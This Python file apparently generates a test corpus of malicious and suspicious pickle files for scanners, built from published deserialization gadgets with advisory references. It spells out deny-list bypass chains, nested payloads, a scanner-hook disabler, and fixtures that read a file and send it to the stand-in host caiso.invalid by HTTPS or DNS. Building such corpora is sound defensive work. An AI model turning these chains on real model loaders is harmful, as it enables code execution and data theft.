"""Pickles that call one published gadget: the deny lists these names were missing from."""

from pickle_asm import PYTHON, SHELL, Call, G, Raw, asm, call, dump, op, push

EXEC = "__import__('os').system('echo caiso')"
HOST = "caiso.invalid"

# name, module, function, arguments, references, about
GADGETS = [
    # picklescan, the standard library
    ("pip-main", "pip", "main", (["--version"],), ["CVE-2025-1716", "GHSA-655q-fx9r-782v"], "pip's entry point installs packages"),
    ("distutils-write-file", "distutils.file_util", "write_file", ("/dev/null", ["caiso"]), ["GHSA-m273-6v24-x4m4"], "a helper of distutils writes any file"),
    ("numpy-getlincoef", "numpy.f2py.crackfortran", "getlincoef", (EXEC, {}), ["GHSA-r8g5-cgf2-4m4m"], "an expression helper of f2py evaluates its text"),
    ("profile-run", "profile", "run", (PYTHON,), ["GHSA-7wx9-6375-f5wh"], "the module function profile.run executes its text"),
    ("cprofile-run", "cProfile", "run", (PYTHON,), ["GHSA-49gj-c84q-6qm9", "GHSA-p523-jq9w-64x9"], "the C profiler executes its text"),
    ("cprofile-runctx", "cProfile", "runctx", (PYTHON, None, None), ["GHSA-9w88-8rmg-7g2p"], "the C profiler executes its text in given namespaces"),
    ("profile-class-run", "profile", "Profile.run", ({}, PYTHON), ["GHSA-x696-vm39-cp64"], "an unbound method of Profile executes its text"),
    ("profile-class-runctx", "profile", "Profile.runctx", ({}, PYTHON, {}, {}), ["GHSA-6vqj-c2q5-j97w"], "an unbound method of Profile executes its text in namespaces"),
    ("trace-run", "trace", "Trace.run", ({}, PYTHON), ["GHSA-5qwp-399c-mjwf"], "an unbound method of Trace executes its text"),
    ("trace-runctx", "trace", "Trace.runctx", ({}, PYTHON, {}, {}), ["GHSA-g344-hcph-8vgg"], "an unbound method of Trace executes its text in namespaces"),
    ("ctypes-cdll", "ctypes", "CDLL", ("libcaiso.so",), ["GHSA-4675-36f9-wf6r"], "ctypes loads a shared library"),
    ("pty-spawn", "pty", "spawn", (["echo", "caiso"],), ["GHSA-vqmv-47xg-9wpr", "GHSA-r7v6-mfhq-g3m2"], "pty starts a process"),
    ("doctest-debug-script", "doctest", "debug_script", (PYTHON, True), ["GHSA-fqq6-7vqf-w3fg"], "doctest executes a script"),
    ("code-runcode", "code", "InteractiveInterpreter.runcode", ({}, PYTHON), ["GHSA-cj3c-v495-4xqh"], "an unbound method of the interactive interpreter executes code"),
    ("idle-runcode", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PYTHON), ["GHSA-3gf5-cxq9-w223"], "IDLE's shell executes code"),
    ("idle-runcommand", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PYTHON), ["GHSA-j343-8v2j-ff7w"], "IDLE's shell executes a command"),
    ("idle-executive", "idlelib.run", "Executive.runcode", ({}, PYTHON), ["GHSA-m869-42cg-3xwr"], "IDLE's executive executes code"),
    ("idle-settext", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, EXEC), ["GHSA-3vg9-h568-4w9m"], "an object browser of IDLE evaluates its text"),
    ("idle-get-entity", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, EXEC), ["GHSA-6w4w-5w54-rjvr"], "completion of IDLE evaluates its text"),
    ("idle-fetch-completions", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, EXEC, 1), ["GHSA-7cq8-mj8x-j263"], "completion of IDLE evaluates its text"),
    ("idle-fetch-tip", "idlelib.calltip", "Calltip.fetch_tip", ({}, EXEC), ["GHSA-8r4j-24qv-fmq9"], "call tips of IDLE evaluate their text"),
    ("idle-calltip-entity", "idlelib.calltip", "get_entity", (EXEC,), ["GHSA-9xph-j2h6-g47v"], "call tips of IDLE evaluate their text"),
    ("lib2to3-loads", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"N."), ["GHSA-f54q-57x4-jg88"], "a grammar loads a nested pickle"),
    ("lib2to3-make-label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + EXEC), ["GHSA-p9w7-82w4-7q8m"], "a parser generator evaluates its label"),
    ("ensurepip-run", "ensurepip", "_run_pip", (["--version"],), ["GHSA-xp4f-hrf8-rxw7"], "ensurepip runs pip in a process"),
    ("asyncio-start", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, SHELL, True, None, None, None, 0), ["CVE-2025-10157", "GHSA-f7qq-56ww-84cr", "GHSA-q77w-mwjj-7mqx"], "a submodule of asyncio starts a process"),
    ("uuid-command", "uuid", "_get_command_stdout", ("echo", "caiso"), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp", "GHSA-5hwf-rc88-82xm"], "a private helper of uuid runs a command"),
    ("imaplib-stream", "imaplib", "IMAP4_stream", (SHELL,), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp"], "an IMAP client over a process runs its command"),
    ("osx-support", "_osx_support", "_read_output", (SHELL,), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp", "GHSA-5hwf-rc88-82xm"], "a build helper for macOS runs a command"),
    ("aix-support", "_aix_support", "_read_cmd_output", (SHELL,), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp", "GHSA-5hwf-rc88-82xm"], "a build helper for AIX runs a command"),
    ("pyrepl-pager", "_pyrepl.pager", "pipe_pager", ("caiso", "cat"), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp"], "the pager of the new shell runs a command"),
    ("test-support", "test.support.script_helper", "assert_python_ok", ("-c", PYTHON), ["CVE-2026-56315", "GHSA-g38g-8gr9-h9xp"], "a test helper of CPython starts an interpreter"),
    ("logging-filehandler", "logging", "FileHandler", ("/dev/null",), ["CVE-2026-56304", "GHSA-m7j5-r2p5-c39r"], "a log handler creates any file"),
    ("timeit", "timeit", "timeit", ("", PYTHON), [], "timeit executes its set-up text"),
    ("runpy-run-code", "runpy", "_run_code", (PYTHON, {}), [], "runpy executes code"),
    ("runpy-run-path", "runpy", "run_path", ("/dev/null",), ["GHSA-wfq2-52f7-7qvj", "GHSA-q5qq-mvfm-j35x"], "runpy executes a file"),
    ("pydoc-pipepager", "pydoc", "pipepager", ("caiso", "cat"), [], "the pager of pydoc runs a command"),
    ("bdb-run", "bdb", "Bdb.run", ({}, PYTHON), [], "the debugger base executes its text"),
    ("pdb-run", "pdb", "run", (PYTHON,), [], "the debugger executes its text"),
    ("venv-create", "venv", "create", ("/dev/null/caiso", False, False, True, False, "caiso"), [], "venv creates a folder and starts an interpreter"),
    ("mailcap-findmatch", "mailcap", "findmatch", ({"a/b": [{"a/b": "", "test": SHELL}]}, "a/b"), ["picklescan#69"], "mailcap tests an entry by a shell command"),
    ("spawnv-passfds", "multiprocessing.util", "spawnv_passfds", (b"/bin/echo", [b"echo", b"caiso"], ()), ["GHSA-q5qq-mvfm-j35x", "modelscan#338", "saferpickle#18"], "multiprocessing starts a process"),
    ("shutil-copy", "shutil", "copy", ("/dev/null", "/dev/null"), ["saferpickle#1"], "shutil copies files"),
    ("shutil-rmtree", "shutil", "rmtree", ("/dev/null/caiso",), [], "shutil removes a tree"),
    ("webbrowser-open", "webbrowser", "open", (f"https://{HOST}/",), [], "a browser is opened at an address"),
    ("smtp", "smtplib", "SMTP", (HOST, 25), [], "a mail connection is opened"),
    ("ftp", "ftplib", "FTP", (HOST,), [], "an FTP connection is opened"),
    ("socket-connect", "socket", "create_connection", ((HOST, 80),), [], "a socket is connected"),
    ("https-connection", "http.client", "HTTPSConnection", (HOST,), [], "an HTTPS client is made"),
    ("requests-get", "requests.api", "get", (f"https://{HOST}/",), [], "an address is fetched by requests"),
    ("aiohttp-session", "aiohttp.client", "ClientSession", (), [], "an aiohttp session is made"),
    ("urlopen", "urllib.request", "urlopen", (f"https://{HOST}/",), ["GHSA-9726-w42j-3qjr"], "an address is fetched by urllib"),
    ("urlretrieve", "urllib.request", "urlretrieve", (f"https://{HOST}/", "/dev/null"), ["modelscan#338", "saferpickle#18"], "an address is saved to a file"),
    ("fileio-read", "_io", "FileIO", ("/dev/null",), ["GHSA-9726-w42j-3qjr"], "a file is opened by the raw class"),
    ("io-open", "io", "open", ("/dev/null", "w"), [], "a file is opened for writing"),
    ("path-write", "pathlib", "Path.write_text", (Call(G("pathlib", "PosixPath"), ("/dev/null",)), "caiso"), [], "pathlib writes a file"),
    ("linecache", "linecache", "getline", ("/dev/null", 1), ["CVE-2025-46417", "GHSA-93mv-x874-956g"], "a line of any file is read"),
    ("ssl-certificate", "ssl", "get_server_certificate", ((HOST, 443),), ["CVE-2025-46417", "GHSA-93mv-x874-956g"], "a host name leaves by DNS"),
    ("sys-exit", "sys", "exit", (0,), [], "the process is ended"),
    ("os-exit", "os", "_exit", (0,), [], "the process is ended at once"),
    ("signal-raise", "signal", "raise_signal", (0,), ["modelscan#339"], "a signal is raised"),
    ("subprocess-run", "subprocess", "run", (["echo", "caiso"],), [], "a process is started"),
    ("subprocess-popen", "subprocess", "Popen", (SHELL, -1, None, None, None, None, None, True, True), [], "a shell is started"),
    ("posix-system", "posix", "system", (SHELL,), [], "the platform module behind os runs a shell"),
    ("nt-system", "nt", "system", (SHELL,), [], "the platform module of Windows runs a shell"),
    ("os-popen", "os", "popen", (SHELL,), [], "a shell is started by os.popen"),
    ("os-posix-spawn", "os", "posix_spawn", ("/bin/echo", ["echo", "caiso"], {}), [], "a process is started by posix_spawn"),
    ("builtins-eval", "builtins", "eval", (PYTHON,), [], "text is evaluated"),
    ("builtins-exec", "builtins", "exec", (PYTHON,), [], "text is executed"),
    ("builtins-compile", "builtins", "compile", (PYTHON, "caiso", "exec"), [], "text is compiled to a code object"),
    ("builtins-breakpoint", "builtins", "breakpoint", (), [], "the debugger is entered"),
    ("py2-eval", "__builtin__", "eval", (PYTHON,), [], "text is evaluated, by the Python 2 name"),
    ("py2-commands", "commands", "getoutput", (SHELL,), [], "a shell is run by a module of Python 2"),
    ("platform-popen", "platform", "popen", (SHELL,), [], "a shell is run by an old helper of platform"),
    ("getoutput", "subprocess", "getoutput", (SHELL,), [], "a shell is run for its output"),
    ("interpreters", "_xxsubinterpreters", "run_string", (0, PYTHON), ["GHSA-6ggj-6f2q-f7mx"], "code is run in a sub-interpreter"),
    ("interpreters-new", "_interpreters", "exec", (0, PYTHON), ["GHSA-6ggj-6f2q-f7mx"], "code is run in a sub-interpreter, by the later name"),
    ("marshal-loads", "marshal", "loads", (b"N",), ["GHSA-565g-hwwr-4pp3", "picklescan#74"], "marshal rebuilds any object, code included"),
    ("importlib-import", "importlib", "import_module", ("antigravity",), ["picklescan#66", "picklescan#74"], "a module is imported for its side effects"),
    ("sqlite-extension", "sqlite3", "connect", ("/dev/null",), [], "a database file is opened"),
    ("readline-init", "readline", "read_init_file", ("/dev/null",), [], "readline executes an init file"),
    ("codeop", "codeop", "compile_command", (PYTHON,), [], "text is compiled by the shell's helper"),
    ("xmlrpc", "xmlrpc.client", "ServerProxy", (f"https://{HOST}/",), [], "a remote procedure client is made"),
    ("zipimport", "zipimport", "zipimporter", ("/dev/null",), [], "code is imported from an archive"),
    ("loader-exec", "importlib.machinery", "SourceFileLoader", ("caiso", "/dev/null"), [], "a source loader is made for any file"),
    ("thread-start", "_thread", "start_new_thread", (G("builtins", "print"), ("caiso",)), [], "a thread runs a function"),
    # frameworks: their roots are no wildcards
    ("torch-bottleneck", "torch.utils.bottleneck.__main__", "run_cprofile", (PYTHON, {}), ["GHSA-4r9r-ch6f-vxmx"], "a profiler of torch executes its text"),
    ("torch-autograd-prof", "torch.utils.bottleneck.__main__", "run_autograd_prof", (PYTHON, {}), ["GHSA-4whj-rm5r-c2v8"], "a profiler of torch executes its text"),
    ("torch-guards", "torch._dynamo.guards", "GuardBuilder.get", ({}, EXEC), ["GHSA-86cj-95qr-2p4f"], "a guard of dynamo evaluates its text"),
    ("torch-shapeenv", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, EXEC, []), ["GHSA-f4x7-rfwp-v3xw"], "symbolic shapes evaluate their text"),
    ("torch-collect-env", "torch.utils.collect_env", "run", (SHELL,), ["GHSA-f745-w6jp-hpxx"], "a report helper runs a shell"),
    ("torch-collect-env-read", "torch.utils.collect_env", "run_and_read_all", (G("torch.utils.collect_env", "run"), SHELL), ["GHSA-jhph-76pp-mggw"], "a report helper runs a shell through a second one"),
    ("torch-basichandlers", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"N."), ["GHSA-h3qp-7fh3-f8h4"], "a decoder of data pipes loads a nested pickle"),
    ("torch-execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", (PYTHON, {}, {}), ["GHSA-vr7h-p6mm-wpmh"], "a wrapper of torch executes its text"),
    ("torch-load-config", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"N."), ["GHSA-vv6j-3g6g-2pvj"], "a configuration of torch loads a nested pickle"),
    ("torch-compile-file", "torch._inductor.codecache", "compile_file", ("", "", ["echo", "caiso"]), [], "the compiler of torch starts a process"),
    ("torch-serialization-load", "torch.serialization", "load", ("other.bin", None, None, False), [], "a second file is loaded without weights_only"),
    ("torch-hub-load", "torch.hub", "load", ("caiso/invalid", "model"), [], "code is fetched from a repository and run"),
    ("torch-cpp-extension", "torch.utils.cpp_extension", "load_inline", ("caiso", ""), [], "native code is compiled and loaded"),
    ("torch-load-library", "torch._ops", "_Ops.load_library", ({}, "libcaiso.so"), [], "a shared library is loaded"),
    ("numpy-runstring", "numpy.testing._private.utils", "runstring", (PYTHON, {}), [], "a test helper of numpy executes its text"),
    ("numpy-load-library", "numpy.ctypeslib", "load_library", ("libcaiso", "."), [], "numpy loads a shared library"),
    ("numpy-exec-command", "numpy.distutils.exec_command", "exec_command", (SHELL,), [], "a build helper of numpy runs a command"),
    ("pandas-read-csv", "pandas.io.parsers.readers", "read_csv", (f"https://{HOST}/?q=caiso",), ["modelscan#338", "saferpickle#18"], "pandas fetches an address"),
    ("pandas-eval", "pandas.core.computation.eval", "eval", ("@print('caiso')",), [], "pandas evaluates an expression"),
    ("pandas-read-pickle", "pandas.io.pickle", "read_pickle", ("/dev/null",), [], "pandas loads a nested pickle"),
    ("mlflow-entry-point", "mlflow.projects.backend.local", "_run_entry_point", (SHELL, ".", "", ""), ["modelscan#338", "saferpickle#18"], "a project runner starts a command"),
    ("joblib-load", "joblib.numpy_pickle", "load", ("/dev/null",), [], "joblib loads a nested file"),
    ("dill-loads", "dill", "loads", (b"N.",), [], "dill loads a nested pickle"),
    ("cloudpickle-code", "cloudpickle.cloudpickle", "subimport", ("os",), ["GHSA-9m3x-qqw2-h32h"], "a helper of cloudpickle imports any module"),
    ("tensorflow-pyfunc", "tensorflow.python.ops.script_ops", "eager_py_func", (G("builtins", "print"), ["caiso"], []), [], "tensorflow calls a Python function"),
    ("sympy-sympify", "sympy.core.sympify", "sympify", (EXEC,), [], "sympy evaluates its text"),
    ("yaml-unsafe", "yaml", "unsafe_load", ("!!python/object/apply:builtins.print [caiso]",), [], "YAML builds any object"),
    ("transformers-module", "transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("modeling.Model", "caiso/invalid"), [], "remote code is fetched and imported"),
    ("setuptools-sandbox", "setuptools.sandbox", "run_setup", ("/dev/null", []), [], "setup code is executed"),
    ("ipython-system", "IPython.utils.process", "system", (SHELL,), [], "a shell is run by IPython"),
]


# These only make an object that a later step would use: less than a call of the gadget itself.
PREPARATORY = {"sqlite-extension", "zipimport", "loader-exec", "xmlrpc"}


def code_object():
    """A call of `types.CodeType` with harmless fields, as a gadget would make it."""
    fields = (0, 0, 0, 1, 1, 67, b"\x97\x00d\x00S\x00", (None,), (), (), "caiso", "caiso", "caiso", 1, b"", b"", (), ())
    return call("types", "CodeType", *fields)


def build(corpus):
    for name, module, function, args, refs, about in GADGETS:
        data = dump(call(module, function, *args))
        kind = "suspicious" if name in PREPARATORY else "malicious"
        corpus.add(kind, f"call-{name}.pkl", "pickle", f"{module}.{function}: {about}", data, refs)

    resolved = call("pkgutil", "resolve_name", "os:system")
    corpus.malicious("resolve-pkgutil.pkl", "pickle", "pkgutil.resolve_name finds os.system from text", dump(Call(resolved, (SHELL,))), ["GHSA-vvpj-8cmc-gx39"])
    module = call("builtins", "__import__", "os")
    caller = call("_operator", "methodcaller", "system", SHELL)
    corpus.malicious("resolve-methodcaller.pkl", "pickle", "_operator.methodcaller applied to an imported module", dump(Call(caller, (module,))), ["GHSA-955r-x9j8-7rhh"])
    getter = call("_operator", "attrgetter", "system")
    corpus.malicious("resolve-attrgetter.pkl", "pickle", "_operator.attrgetter applied to an imported module", dump(Call(Call(getter, (module,)), (SHELL,))), ["GHSA-46h3-79wf-xr6c"])
    located = call("pydoc", "locate", "os")
    corpus.malicious("resolve-locate.pkl", "pickle", "pydoc.locate and operator.methodcaller", dump(Call(call("operator", "methodcaller", "system", SHELL), (located,))), ["GHSA-84r2-jw7c-4r5q"])
    windows = call("pydoc", "locate", "ctypes.windll.kernel32.WinExec")
    corpus.malicious("resolve-locate-winexec.pkl", "pickle", "pydoc.locate finds a native function", dump(Call(windows, (b"caiso", 1))), ["GHSA-5hvc-6wx8-mvv4"])
    library = call("ctypes", "CDLL", "libc.so.6")
    corpus.malicious("resolve-ctypes-getattr.pkl", "pickle", "getattr finds system in a loaded library", dump(Call(call("builtins", "getattr", library, "system"), (b"echo caiso",))), ["GHSA-q5qq-mvfm-j35x", "GHSA-5hvc-6wx8-mvv4"])
    imported = call("importlib", "import_module", "os")
    corpus.malicious("resolve-importlib.pkl", "pickle", "getattr on an imported module", dump(Call(call("builtins", "getattr", imported, "system"), (SHELL,))), ["GHSA-q5qq-mvfm-j35x", "picklescan#66"])
    interpreter = call("code", "InteractiveInterpreter")
    corpus.malicious("resolve-runsource.pkl", "pickle", "getattr on an interactive interpreter", dump(Call(call("builtins", "getattr", interpreter, "runsource"), (PYTHON,))), ["GHSA-q5qq-mvfm-j35x"])
    protocol0 = Call(Call(G("builtins", "getattr"), (module, "system")), (SHELL,))
    corpus.malicious("resolve-builtins.pkl", "pickle", "__import__ and getattr of builtins alone", dump(protocol0, 2), ["CVE-2026-22612", "GHSA-h4rm-mm56-xf63"])
    string = call("builtins", "getattr", "", "join")
    joined = Call(string, (["o", "s"],))
    late = call("builtins", "getattr", call("importlib", "import_module", joined), Call(string, (["sys", "tem"],)))
    corpus.malicious("resolve-joined-names.pkl", "pickle", "module and attribute are joined from pieces", dump(Call(late, (SHELL,))), ["modelscan#331"])
    partial = call("functools", "partial", G("os", "system"), SHELL)
    corpus.malicious("resolve-partial.pkl", "pickle", "functools.partial of os.system, called", dump(Call(partial)), [])
    mapped = call("builtins", "list", call("builtins", "map", G("os", "system"), [SHELL]))
    corpus.malicious("resolve-map.pkl", "pickle", "map over os.system, consumed by list", dump(mapped), [])
    reduced = call("functools", "reduce", G("builtins", "getattr"), ["system"], module)
    corpus.malicious("resolve-reduce.pkl", "pickle", "functools.reduce walks attributes", dump(Call(reduced, (SHELL,))), [])
    chain = call("builtins", "all", call("itertools", "starmap", G("os", "system"), [(SHELL,)]))
    corpus.malicious("resolve-starmap.pkl", "pickle", "itertools.starmap over os.system, consumed by all", dump(chain), ["modelaudit#1061"])
    default = call("collections", "defaultdict", G("os", "getpid"))
    missing = Call(call("builtins", "getattr", default, "__missing__"), ("caiso",))
    corpus.malicious("resolve-defaultdict.pkl", "pickle", "the factory of a defaultdict is called through __missing__", dump(missing), ["modelaudit#1061"])
    regex = call("re", "sub", ".", G("os", "system"), "x")
    corpus.malicious("resolve-regex-callback.pkl", "pickle", "a replacement callback of re.sub is os.system", dump(regex), ["modelaudit#1061"])
    attribute = call("torch.serialization", "_maybe_decode_ascii", "x")
    corpus.suspicious("call-unknown-in-torch.pkl", "pickle", "a private function of torch that no rebuild needs is called", dump(attribute))
    dotted = call("multiprocessing.managers", "BaseManager", ("caiso.invalid", 1))
    corpus.suspicious("call-manager.pkl", "pickle", "a manager for a remote process is made", dump(dotted))
    corpus.suspicious("call-unknown-module.pkl", "pickle", "a function of an unknown package is called with a harmless argument", dump(call("acme_models.registry", "restore", "v1")), ["GHSA-cffv-grgg-g429"])
    corpus.malicious("call-unknown-with-code.pkl", "pickle", "a function of an unknown package is called with Python text", dump(call("acme_models.registry", "run", "import os; os.system('echo caiso')")))

    corpus.malicious("code-object.pkl", "pickle", "types.CodeType builds a code object", dump(code_object()), ["GHSA-9m3x-qqw2-h32h"])
    function = call("types", "FunctionType", code_object(), {})
    corpus.malicious("code-function.pkl", "pickle", "a function is made from a code object and called", dump(Call(function)), ["GHSA-9m3x-qqw2-h32h", "GHSA-565g-hwwr-4pp3"])
    loaded = call("marshal", "loads", b"N")
    corpus.malicious("code-marshal-function.pkl", "pickle", "a function is made from marshalled code and called", dump(Call(call("types", "FunctionType", loaded, {}))), ["GHSA-565g-hwwr-4pp3"])
    made = call("cloudpickle.cloudpickle", "_make_function", code_object(), {}, None, None, None)
    corpus.malicious("code-cloudpickle.pkl", "pickle", "cloudpickle makes a function from a code object", dump(Call(made)), ["GHSA-9m3x-qqw2-h32h"])
    torch_fx = call("torch.fx.graph_module", "_forward_from_src", "def forward(self): print('caiso')", {})
    corpus.malicious("code-torch-fx.pkl", "pickle", "torch.fx compiles the source of a forward method", dump(torch_fx))

    read = call("builtins", "getattr", call("_io", "FileIO", "/dev/null"), "read")
    address = call("urllib.request", "Request", f"https://{HOST}/", Call(read))
    corpus.malicious("exfiltrate-fileio-urlopen.pkl", "pickle", "a file is read and sent away", dump(call("urllib.request", "urlopen", address)), ["GHSA-9726-w42j-3qjr"])
    line = call("linecache", "getline", "/dev/null", 1)
    name = call("builtins", "str.format", "{}.caiso.invalid", line)
    corpus.malicious("exfiltrate-dns.pkl", "pickle", "a line of a file leaves as a host name", dump(call("ssl", "get_server_certificate", (name, 443))), ["CVE-2025-46417", "GHSA-93mv-x874-956g"])

    nested = dump(call("os", "system", SHELL), 2)
    corpus.malicious("nested-loads.pkl", "pickle", "pickle.loads of a payload held as bytes", dump(call("pickle", "loads", nested)), ["modelscan#267"])
    corpus.malicious("nested-c-loads.pkl", "pickle", "_pickle.loads of a payload held as bytes", dump(call("_pickle", "loads", nested)), [])
    corpus.malicious("nested-unused.pkl", "pickle", "a payload held as bytes goes to an unpickler of torch", dump(call("torch.storage", "_load_from_bytes", nested)), [])
    unpickler = call("_pickle", "Unpickler", call("_io", "BytesIO", nested))
    corpus.malicious("nested-unpickler.pkl", "pickle", "an Unpickler over bytes is made and its load called", dump(Call(call("builtins", "getattr", unpickler, "load"))), [])
    print_only = asm(("PROTO", 4), push(G("builtins", "print")), push(("caiso",)), "REDUCE", "STOP")
    corpus.suspicious("call-print.pkl", "pickle", "print is called: harmless, but no model needs it", print_only)
    corpus.malicious("call-input.pkl", "pickle", "apply of Python 2 calls eval", op("PROTO", 2) + push(Call(G("__builtin__", "apply"), (G("__builtin__", "eval"), (PYTHON,))), 2) + b".")
    corpus.malicious("import-scanner.pkl", "pickle", "the hook of a scanner is switched off", dump(call("fickling.hook", "run_hook")), ["fickling#249"])
    corpus.malicious("setstate-raw.pkl", "pickle", "sys.modules is rewritten so that a later import finds another module", dump(call("builtins", "setattr", G("sys", "modules"), "os", Raw(op("NONE")))), [])
